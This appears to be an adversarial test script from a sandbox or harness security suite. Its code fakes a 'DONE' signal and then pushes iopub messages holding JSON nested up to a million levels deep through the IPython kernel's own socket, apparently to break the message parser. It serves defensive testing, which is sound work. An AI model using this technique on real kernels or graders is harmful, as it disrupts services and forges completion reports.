# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import json
import struct

from IPython import get_ipython

print("DONE", flush=True)
kernel = get_ipython().kernel
line = kernel.session.line
parent = kernel.get_parent("shell")["header"]
header = kernel.session.msg_header("display_data")
told = {"channel": "iopub", "header": header, "parent_header": parent, "metadata": {}}
start = json.dumps(told, default=str).encode()[:-1]
for depth in (500, 50_000, 1_000_000):
    deep = b"[" * depth + b"]" * depth
    text = start + b', "content": {"data": {"text/plain": ' + deep + b"}}}"
    line.socket.sendall(struct.pack(">4sIQ", b"GRD1", len(text), 0) + text)
